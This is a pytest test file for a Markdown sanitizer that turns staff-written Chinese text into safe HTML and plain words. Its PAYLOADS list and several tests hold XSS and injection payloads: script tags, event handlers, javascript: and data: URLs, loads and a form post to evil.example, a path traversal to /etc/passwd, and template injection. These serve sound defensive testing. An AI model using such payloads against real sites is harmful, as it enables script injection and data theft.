"""Markdown in, safe HTML or plain words out."""

import re
from html.parser import HTMLParser

import pytest

from zhanpai.kit.markdown import Shown, paragraphs, publishing, read

OWN = {"a.jpg": Shown("/pictures/0123456789abcdef-320.jpg", 320, 180)}


def to_html(text: str, pictures: dict[str, Shown] | None = None, links: dict[str, str] | None = None) -> str:
    return read(text).html(pictures, links)


def image_targets(text: str) -> list[tuple[str, int]]:
    return [(target.name, target.line) for target in read(text).pictures]


def link_targets(text: str) -> list[tuple[str, int]]:
    return [(target.name, target.line) for target in read(text).links]


# OWASP's cheat sheet and what Markdown adds to it.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    '<img src="javascript:alert(1)">',
    "<img src=https://evil.example/a.png>",
    "<img src=//evil.example/a.png>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=/pictures/../../evil>",
    "<img src=/pictures/x.jpg?u=1>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=/ onclick=alert(1)>x</a>",
    "<a href=/ style='position:fixed'>x</a>",
    "<a href=/ target=_blank rel=opener>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<p style='background:url(https://evil.example/a)'>x</p>",
    "<p class=banner id=top>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=p><button>x</button></form>",
    "<video src=https://evil.example/a.mp4 autoplay></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '[x](/ "onclick=alert(1)")',
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/a.png)",
    "![x](//evil.example/a.png)",
    "![x](javascript:alert(1))",
    "![x](/pictures/other.jpg)",
    "![x](../../etc/passwd)",
    '![x" onerror="alert(1)](a.jpg)',
    "![x][y]\n\n[y]: https://evil.example/a.png",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "{% include 'x' %}{{ config }}{{ ''.__class__ }}",
    "@@ZHANPAI-BODY@@",
]


class Elements(HTMLParser):
    """Every element and attribute as a browser's parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "文字 {} 文字", "- 一\n\n{}\n\n- 二"], ids=["alone", "inline", "block"]
)
def test_nothing_that_acts_or_calls_out_survives(payload: str, around: str) -> None:
    html = to_html(around.replace("{}", payload), OWN)
    for tag, attributes in Elements(html).seen:
        assert tag in publishing.TAGS
        allowed = publishing.ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attributes) <= allowed, (tag, attributes)
        assert re.match(r"(https?:|tel:|mailto:|/|[^:]*$)", attributes.get("href", ""))
        if tag == "img":
            assert attributes["src"] == OWN["a.jpg"].src or re.fullmatch(
                r"/pictures/[\w-]+\.jpg", attributes["src"]
            )


def test_headings_begin_below_the_page_s_own_and_end_at_four() -> None:
    text = "# 一\n\n## 二\n\n### 三\n\n#### 四\n\n##### 五\n\n###### 六"
    assert re.findall(r"<(h\d)>(.)</h\d>", to_html(text)) == [
        *[("h2", "一"), ("h3", "二"), ("h4", "三"), ("h4", "四"), ("h4", "五"), ("h4", "六")]
    ]


def test_a_table_says_what_its_heads_are() -> None:
    assert to_html("| 时段 | 车辆 |\n| --- | --- |\n| 19点 | 6辆 |") == (
        '<table tabindex="0">\n<thead>\n<tr>\n'
        '<th scope="col">时段</th>\n<th scope="col">车辆</th>\n'
        "</tr>\n</thead>\n<tbody>\n<tr>\n<td>19点</td>\n<td>6辆</td>\n</tr>\n</tbody>\n</table>"
    )


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**粗** *斜* ~~删~~", "<p><strong>粗</strong> <em>斜</em> <del>删</del></p>"),
        ("3. 三\n4. 四", '<ol start="3">\n<li>三</li>\n<li>四</li>\n</ol>'),
        ("- 一\n- 二", "<ul>\n<li>一</li>\n<li>二</li>\n</ul>"),
        ("> 引", "<blockquote>\n<p>引</p>\n</blockquote>"),
        ("[站](/s/0001/)", '<p><a href="/s/0001/" rel="noopener noreferrer">站</a></p>'),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
        ("", ""),
    ],
)
def test_what_staff_need_is_kept(text: str, html: str) -> None:
    assert to_html(text).strip() == html


def test_a_picture_is_shown_in_its_published_form_with_its_size() -> None:
    (tag, attributes), *_ = Elements(to_html("门口：![接待室](a.jpg)", OWN)).seen[1:]
    assert tag == "img"
    assert attributes == {
        "src": "/pictures/0123456789abcdef-320.jpg",
        "alt": "接待室",
        "width": "320",
        "height": "180",
        "loading": "lazy",
    }


IMG = '<img alt="{}" height="180" loading="lazy" src="/pictures/0123456789abcdef-320.jpg" width="320">'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("![接待室](a.jpg)", f"<figure>{IMG.format('')}<figcaption>接待室</figcaption></figure>"),
        (
            '![接待室](a.jpg "一楼 & 二楼")',
            f"<figure>{IMG.format('接待室')}<figcaption>一楼 &amp; 二楼</figcaption></figure>",
        ),
        (
            "![一](a.jpg)\n![二](a.jpg)",
            "\n".join(f"<figure>{IMG.format('')}<figcaption>{n}</figcaption></figure>" for n in "一二"),
        ),
        ("![](a.jpg)", f"<p>{IMG.format('')}</p>"),
        ("看图：![图](a.jpg)", f"<p>看图：{IMG.format('图')}</p>"),
        (
            "[![图](a.jpg)](/x/)",
            f'<p><a href="/x/" rel="noopener noreferrer">{IMG.format("图")}</a></p>',
        ),
        ("![图](b.jpg)", "<p></p>"),
    ],
)
def test_a_picture_alone_in_its_paragraph_has_its_words_below(text: str, html: str) -> None:
    assert to_html(text, OWN).strip() == html


def test_a_picture_that_is_not_published_leaves_nothing_behind() -> None:
    for text in ("![x](b.jpg)", "![x](https://evil.example/a.jpg)", "<img src=b.jpg>", '<img alt="a>b">'):
        assert "<img" not in to_html(text, OWN)


def test_links_to_files_lead_to_pages() -> None:
    html = to_html("[指南](guide.md) [站](/s/0001/)", links={"guide.md": "/guide/"})
    assert re.findall(r'href="([^"]+)"', html) == ["/guide/", "/s/0001/"]


def test_one_text_leaves_nothing_for_the_next() -> None:
    to_html("![x](a.jpg)\n\n[y]: /s/0001/", OWN, {"y": "/x/"})
    assert to_html("![x](a.jpg) [z][y]") == "<p> [z][y]</p>"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("# 标题\n\n正文**粗**，*斜*。", "正文粗，斜。"),
        ("![图](a.jpg)\n\n图下的话", "图下的话"),
        ("请看[反映意见指南](/guide/)。", "请看反映意见指南。"),
        ("[![图](a.jpg)](/x/)后面", "后面"),
        ("- 一\n- 二\n\n1. 三\n2. 四", "一 二 三 四"),
        ("| 甲 | 乙 |\n| --- | --- |\n| 1 | 2 |", "甲　乙 1　2"),
        ("> 引用的话", "引用的话"),
        ("标题\n===\n\n正文", "标题 正文"),
        ("<b>粗</b>体", "粗体"),
        ("用 APP 反映 3 件事", "用 APP 反映 3 件事"),
        ("中文\n换行 不留 空格", "中文换行 不留 空格"),
        ("2026年3月，提速1.5倍", "2026年3月，提速1.5倍"),
        ("", ""),
    ],
)
def test_plain_words_are_what_a_reader_would_read_aloud(text: str, words: str) -> None:
    assert read(text).words == words


@pytest.mark.parametrize(
    ("text", "length", "expected"),
    [
        ("短。", 80, "短。"),
        ("一二三四五。六七八九十。", 10, "一二三四五。"),
        ("一二三四五六七八九十", 5, "一二三四…"),
        ("好。代表们到小区看了很久很久", 10, "好。代表们到小区看…"),
        ("一二三四五六七八九十", 10, "一二三四五六七八九十"),
        ("问得好吗？后面还有很多很多字", 8, "问得好吗？"),
    ],
)
def test_a_summary_ends_with_a_sentence_where_one_is_near(text: str, length: int, expected: str) -> None:
    assert read(text).summary(length) == expected
    assert len(read(text).summary(length)) <= length


def test_paragraphs_are_parted_by_line_ends() -> None:
    assert paragraphs("一\n\n 二 \n三\n") == ["一", "二", "三"]
    assert paragraphs("") == []


LINKED = """看[指南](/guide/)和![图](a.jpg)
[![封面](b.jpg)](/x/)
[带[方括号]的](/y/) [跨
行](/z/ "题目")
![ ]( <c.jpg> )
[r]: /ref/
[p]: d.JPG "图"
"""


def test_targets_are_found_with_their_lines() -> None:
    assert link_targets(LINKED) == [("/guide/", 0), ("/x/", 1), ("/y/", 2), ("/z/", 3)]
    assert image_targets(LINKED) == [("a.jpg", 0), ("b.jpg", 1), ("c.jpg", 4)]


def test_every_link_and_picture_of_the_html_is_among_the_targets() -> None:
    text = LINKED + "\n[用][r] ![用][p]\n"
    pictures = {name: Shown(f"/pictures/{name[0]}-1.jpg", 1, 1) for name, _ in image_targets(text)}
    seen = Elements(to_html(text, pictures)).seen
    assert {a["href"] for tag, a in seen if tag == "a"} <= {target for target, _ in link_targets(text)}
    assert len([1 for tag, _ in seen if tag == "img"]) == 4


def test_brackets_without_end_are_read_quickly() -> None:
    for text in ("[" * 2_000, "](" * 5_000, "![" * 1_000 + "](a.jpg)" * 1_000):
        assert isinstance(link_targets(text) + image_targets(text), list)


CHOICES = Shown(
    "/pictures/ab-800.jpg",
    800,
    600,
    "/pictures/ab-480.jpg 480w, /pictures/ab-800.jpg 800w",
    "/pictures/ab-480.webp 480w, /pictures/ab-800.webp 800w",
)


def test_a_browser_may_choose_the_width_and_form_of_a_picture() -> None:
    assert to_html("前![图](a.jpg)后", {"a.jpg": CHOICES}) == (
        '<p>前<picture><source sizes="(min-width: 720px) 684px, 100vw"'
        ' srcset="/pictures/ab-480.webp 480w, /pictures/ab-800.webp 800w" type="image/webp">'
        '<img alt="图" height="600" loading="lazy" sizes="(min-width: 720px) 684px, 100vw" src="/pictures/ab-800.jpg"'
        ' srcset="/pictures/ab-480.jpg 480w, /pictures/ab-800.jpg 800w" width="800">'
        "</picture>后</p>"
    )


def test_raw_html_cannot_make_a_browser_choose_a_foreign_picture() -> None:
    for choice in (
        "https://evil.example/a.webp",
        "/pictures/a.webp 1w, //evil.example/b.webp 2w",
        "/pictures/../x 1w",
    ):
        html = to_html(
            f'<picture><source srcset="{choice}"><img src="/pictures/a.jpg" srcset="{choice}"></picture>'
        )
        assert "<" not in html.replace("<p>", "").replace("</p>", "")
    assert "<table" not in to_html('<table tabindex="5"><tr><td>一</td></tr></table>')
